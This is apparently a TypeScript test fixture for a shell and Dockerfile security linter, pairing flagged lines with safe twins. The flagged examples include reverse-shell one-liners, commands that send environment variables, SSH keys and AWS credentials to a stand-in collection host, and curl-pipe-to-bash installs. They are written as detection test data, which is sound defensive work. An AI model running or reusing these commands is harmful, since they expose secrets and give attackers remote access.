/** Lines that a rule reports, and lines that do the same work without the weakness. */
export interface RecipeCase {
  readonly rule: string;
  readonly attack: readonly string[];
  readonly twin: readonly string[];
}

function line(rule: string, attack: string, twin: string): RecipeCase {
  return { rule, attack: attack.split('\n'), twin: twin.split('\n') };
}

export const SHELL_CASES: readonly RecipeCase[] = [
  line('CODE80', 'curl -sSL https://get.example.test | sudo bash', 'curl -sSL https://api.example.test | jq .'),
  line('CODE80', 'wget -qO- http://get.example.test | sh -s -- -y', 'wget -qO- https://dl.example.test/a.tgz | tar xz'),
  line('CODE80', 'bash <(curl -s https://get.example.test)', 'diff <(curl -s https://a.example.test) b.txt'),
  line('CODE80', 'sh -c "$(curl -fsSL https://get.example.test)"', 'echo "$(curl -fsSL https://get.example.test)"'),
  line('CODE80', 'eval "$(curl -s https://env.example.test)"', 'eval "$(ssh-agent -s)"'),
  line('CODE80', '. <(curl -s https://env.example.test)', '. ./env.sh'),
  line(
    'CODE80',
    'curl -s https://get.example.test/x.py | python3 -',
    'curl -s https://api.example.test | python3 -m json.tool',
  ),
  line('CODE80', 'curl -s https://get.example.test | node', "curl -s https://api.example.test | node -e 'go()'"),
  line(
    'CODE81',
    'wget https://dl.example.test/run.sh\nsh run.sh',
    'wget https://dl.example.test/data.csv\nsort data.csv',
  ),
  line(
    'CODE81',
    'curl -Lo /usr/local/bin/kind https://dl.example.test/kind\nchmod +x /usr/local/bin/kind',
    'curl -Lo /usr/local/bin/kind https://dl.example.test/kind\nsha256sum -c kind.sha256\nchmod +x /usr/local/bin/kind',
  ),
  line('CODE81', 'curl -O https://dl.example.test/a.deb\ndpkg -i a.deb', 'dpkg -i ./build/a.deb'),
  line('CODE82', 'yum install -y --nogpgcheck tool', 'yum install -y tool'),
  line('CODE82', 'apk add --allow-untrusted tool.apk', 'apk add tool'),
  line(
    'CODE82',
    'echo "deb [trusted=yes] https://apt.example.test stable main" >> sources.list',
    'echo "deb [signed-by=/k.gpg] https://apt.example.test stable main" >> sources.list',
  ),
  line('CODE82', 'export GOSUMDB=off', 'export GOSUMDB=sum.example.test'),
  line('CODE45', 'curl -sk https://api.example.test', 'curl -sk https://localhost:8443/health'),
  line('CODE45', 'wget --no-check-certificate https://dl.example.test/a', 'wget https://dl.example.test/a'),
  line('CODE45', 'git config --global http.sslVerify false', 'git config --global http.sslVerify true'),
  line(
    'CODE45',
    'git -c http.sslVerify=false clone https://git.example.test/a',
    'git clone https://git.example.test/a',
  ),
  line('CODE45', 'npm config set strict-ssl false', 'npm config set strict-ssl true'),
  line('CODE45', 'pip install --trusted-host pypi.example.test tool', 'pip install tool'),
  line('CODE45', 'kubectl --insecure-skip-tls-verify get pods', 'kubectl get pods'),
  line('CODE45', 'NODE_TLS_REJECT_UNAUTHORIZED=0 npm test', 'NODE_ENV=test npm test'),
  line('CODE45', 'export GIT_SSL_NO_VERIFY=true', 'export GIT_SSL_NO_VERIFY=false'),
  line(
    'CODE65',
    'ssh -o StrictHostKeyChecking=no app@host.example.test',
    'ssh -o StrictHostKeyChecking=yes app@host.example.test',
  ),
  line('CODE65', 'export ANSIBLE_HOST_KEY_CHECKING=False', 'export ANSIBLE_HOST_KEY_CHECKING=True'),
  line('CODE55', 'chmod -R 777 data', 'chmod -R 755 data'),
  line('CODE55', 'chmod a+rwx data', 'chmod u+rwx data'),
  line('CODE55', 'sudo chmod 0666 state', 'sudo chmod 1777 shared'),
  line('CODE55', 'mkdir -m 777 data', 'mkdir -m 700 data'),
  line('CODE55', 'umask 000', 'umask 022'),
  line(
    'CODE86',
    "echo 'ci ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
    "echo 'ci ALL=NOPASSWD:/bin/mount' >> /etc/sudoers",
  ),
  line('CODE86', 'cat > /etc/sudoers.d/ci <<EOF\nci ALL=(ALL) NOPASSWD: ALL\nEOF', 'cat > /etc/motd <<EOF\nhello\nEOF'),
  line('CODE87', 'bash -c "$1"', 'exec "$@"'),
  line('CODE87', 'cmd=$2\neval $cmd', 'cmd=build\neval $cmd'),
  line('CODE87', 'read -r line\neval "$line"', 'read -r line\necho "$line"'),
  line('CODE87', 'sh -c "git checkout $GITHUB_HEAD_REF"', 'git checkout "$GITHUB_HEAD_REF"'),
  line('CODE87', 'sh -c "echo $1"', 'sh -c \'echo "$1"\' _ "$1"'),
  line('CODE88', 'rm -rf $BUILD_DIR', 'rm -rf "$BUILD_DIR"'),
  line('CODE88', 'rm -rf "$PREFIX/"*', 'rm -rf "${PREFIX:?}/"*'),
  line('CODE88', 'rm -rf "$PREFIX"/', 'set -eu\nrm -rf "$PREFIX"/'),
  line('CODE88', 'rm -r $OUT', 'OUT=dist\nrm -r $OUT'),
  line('CODE88', 'd=$(pwd)\nrm -r $d', 'd=$(mktemp -d)\nrm -r $d'),
  line('CODE87', 'eval "$HTTP_COOKIE"', 'HTTP_COOKIE=none\neval "$HTTP_COOKIE"'),
  line('CODE56', 'date > /tmp/build.log', 'date > "$(mktemp)"'),
  line(
    'CODE56',
    'curl -o /tmp/data.json https://dl.example.test/data.json',
    'curl -o data.json https://dl.example.test/data.json',
  ),
  line('CODE56', 'sort list | tee /tmp/list.$$', 'mkdir /tmp/own\nsort list | tee /tmp/own/list'),
  line('CODE89', 'echo "token: $API_TOKEN"', 'echo "token has ${#API_TOKEN} letters"'),
  line('CODE89', 'echo "$DB_PASSWORD"', 'echo "$DB_PASSWORD" | login --stdin'),
  line('CODE89', 'printf "%s" "$SECRET" >&2', 'printf "%s" "$SECRET" > key'),
  line(
    'CODE89',
    'set -ex\ncurl -H "Authorization: $TOKEN" https://api.example.test',
    'set -e\ncurl -H "Authorization: $TOKEN" https://api.example.test',
  ),
  line('CODE89', 'env', 'env | grep -c PATH'),
  line('CODE90', 'sshpass -p "$P" ssh a@host.example.test', 'sshpass -f file ssh a@host.example.test'),
  line('CODE90', 'mysql -u root -p"$MYSQL_ROOT" app', 'mysql --defaults-file=my.cnf app'),
  line('CODE91', 'docker run --rm --privileged app', 'docker run --rm app'),
  line('CODE91', 'docker run -v /var/run/docker.sock:/var/run/docker.sock app', 'docker run -v ./data:/data app'),
  line('CODE91', 'podman run -v /:/host app', 'podman run -v /srv/app:/app app'),
  line('CODE92', 'sh -i < /dev/tcp/203.0.113.9/443', 'sh -i < commands.txt'),
  line('CODE92', 'nc -e /bin/sh 203.0.113.9 4444', 'nc -z db.example.test 5432'),
  line('CODE94', 'echo aWQK | base64 --decode | bash', 'echo aWQK | base64 --decode > blob'),
  line('CODE94', 'eval "$(echo aWQK | base64 -d)"', 'data="$(echo aWQK | base64 -d)"'),
  line('CODE95', 'env | curl -d @- https://collect.example.test', 'env | sort > environment.txt'),
  line(
    'CODE95',
    'curl -F key=@$HOME/.ssh/id_rsa https://collect.example.test',
    'curl -F report=@report.xml https://collect.example.test',
  ),
  line(
    'CODE95',
    'curl "https://collect.example.test/?k=$(base64 ~/.aws/credentials)"',
    'curl "https://api.example.test/?v=$(cat VERSION)"',
  ),
  line('CODE50', 'export DB_PASSWORD=s3cure-and-long', 'export DB_PASSWORD="$(vault read db)"'),
];

export const DOCKER_CASES: readonly RecipeCase[] = [
  line(
    'CODE80',
    'FROM debian:12\nRUN curl https://get.example.test | bash',
    'FROM debian:12\nRUN curl https://dl.example.test | tar xz',
  ),
  line(
    'CODE80',
    'FROM debian:12\nRUN ["sh", "-c", "curl https://get.example.test | sh"]',
    'FROM debian:12\nRUN ["make"]',
  ),
  line('CODE81', 'FROM debian:12\nADD http://dl.example.test/a /a', 'FROM debian:12\nADD a.tgz /a'),
  line('CODE83', 'FROM debian:12\nUSER app\nUSER root\nCMD ["/a"]', 'FROM debian:12\nUSER root\nUSER app\nCMD ["/a"]'),
  line('CODE83', 'FROM debian:12\nENTRYPOINT ["/a"]', 'FROM gcr.example.test/static:nonroot\nENTRYPOINT ["/a"]'),
  line(
    'CODE83',
    'FROM debian:12 AS a\nUSER app\nFROM debian:12\nCMD a',
    'FROM debian:12 AS a\nUSER app\nFROM a\nCMD a',
  ),
  line('CODE84', 'FROM debian:12\nARG GITHUB_TOKEN', 'FROM debian:12\nARG GITHUB_REF'),
  line('CODE84', 'FROM debian:12\nENV API_KEY=$KEY', 'FROM debian:12\nENV API_KEY_FILE=/run/secrets/key'),
  line('CODE85', 'FROM node', 'FROM node:22.11'),
  line('CODE85', 'FROM node:latest', 'FROM node:22 AS build\nFROM build'),
  line(
    'CODE85',
    'FROM registry.example.test:5000/app',
    'FROM app@sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d',
  ),
  line('CODE93', 'FROM debian:12\nCOPY .env /app/', 'FROM debian:12\nCOPY .env.example /app/.env'),
  line(
    'CODE93',
    'FROM debian:12\nCOPY deploy/id_ed25519 /root/.ssh/',
    'FROM debian:12\nCOPY --from=keys id_ed25519.pub /k',
  ),
  line('CODE55', 'FROM debian:12\nCOPY --chmod=777 a /a', 'FROM debian:12\nCOPY --chmod=755 a /a'),
  line('CODE55', 'FROM debian:12\nRUN chmod -R 777 /app', 'FROM debian:12\nRUN chmod -R 755 /app'),
  line('CODE45', 'FROM debian:12\nENV NODE_TLS_REJECT_UNAUTHORIZED=0', 'FROM debian:12\nENV NODE_ENV=production'),
  line('CODE50', 'FROM debian:12\nENV DB_PASSWORD=s3cure-and-long', 'FROM debian:12\nENV DB_PASSWORD=changeme'),
];
